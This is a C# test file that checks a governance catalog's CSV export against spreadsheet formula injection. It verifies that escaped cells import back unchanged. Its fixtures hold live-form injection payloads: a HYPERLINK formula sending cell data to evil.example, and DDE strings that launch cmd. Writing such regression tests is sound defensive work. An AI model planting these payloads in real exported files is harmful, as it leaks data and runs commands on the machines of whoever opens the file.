using System;
using System.Linq;
using FsCheck;
using FsCheck.Fluent;
using FsCheck.Xunit;
using PowerGovernance.Powers;

namespace PowerGovernance.Serialization.Tests.Attacks;

/// <summary>
/// Issue 14, finding 6: export wrote a name such as <c>=HYPERLINK(…)</c> as it was, which a spreadsheet runs as a
/// formula when an officer opens the file (CSV injection). Such cells are now written with a leading apostrophe
/// (CsvHelper's injection escaping), and import removes it, so the catalog reads back unchanged.
/// </summary>
public class CatalogCsvInjectionAttackTests
{
    private const string Hyperlink = "=HYPERLINK(\"http://evil.example/?d=\"&A1,\"点击查看\")";

    private static PowerCatalog Poisoned() => new(
    [
        SamplePowers.MinimumLivingAllowance with { Name = Hyperlink },
        SamplePowers.MinimumLivingAllowance with { Code = new PowerCode("62052400MZ-JF-0002"), Name = "+1+cmd|' /C calc'!A0", Conditions = "-2+3", ResponsiblePerson = "@SUM(1+1)*cmd|' /C calc'!A0" },
        SamplePowers.MinimumLivingAllowance with { Code = new PowerCode("62052400MZ-JF-0003"), Name = "'=already escaped by hand", Conditions = "''", SupervisingBody = "'" },
    ]);

    [Fact]
    public void Export_never_starts_a_cell_with_a_formula_character()
    {
        var csv = CatalogCsv.Export(Poisoned());

        using var reader = CsvHelper.CsvReader.FromText(csv, CsvHelper.CsvReaderOptions.Default with { Separator = ',', HasHeader = false });
        var cells = 0;
        while (reader.Read())
        {
            for (var i = 0; i < reader.FieldCount; i++)
            {
                var cell = reader.GetString(i);
                cells++;
                Assert.False(cell.Length > 0 && cell[0] is '=' or '+' or '-' or '@' or '\t' or '\r', "a cell a spreadsheet would run: " + cell);
            }
        }

        Assert.Equal(4 * 31, cells);
        Assert.Contains("'" + Hyperlink.Replace("\"", "\"\"", StringComparison.Ordinal), csv, StringComparison.Ordinal);
    }

    [Fact]
    public void What_export_escaped_imports_as_it_was()
    {
        var catalog = Poisoned();

        var read = CatalogCsv.Import(CatalogCsv.Export(catalog));

        foreach (var (a, b) in read.Powers.Zip(catalog.Powers))
        {
            Assert.True(a.Equals(b), b.Code + " differs in " + string.Join(", ", a.DifferingMembers(b)));
        }
    }

    [Property(MaxTest = 100)]
    public Property Any_text_starting_with_formula_characters_or_apostrophes_round_trips() =>
        Prop.ForAll(
            Arb.From(Gen.Elements("=", "+", "-", "@", "'", "''", "'=", "'+", "x").ListOf().Select(p => string.Concat(p))),
            prefix =>
            {
                var name = prefix + "名称";
                var catalog = new PowerCatalog([SamplePowers.MinimumLivingAllowance with { Name = name, Conditions = prefix.Length == 0 ? null : prefix }]);
                var read = CatalogCsv.Import(CatalogCsv.Export(catalog)).Powers[0];
                return (read.Name == name && read.Conditions == catalog.Powers[0].Conditions).Label(name + " read as " + read.Name + ", " + read.Conditions);
            });
}
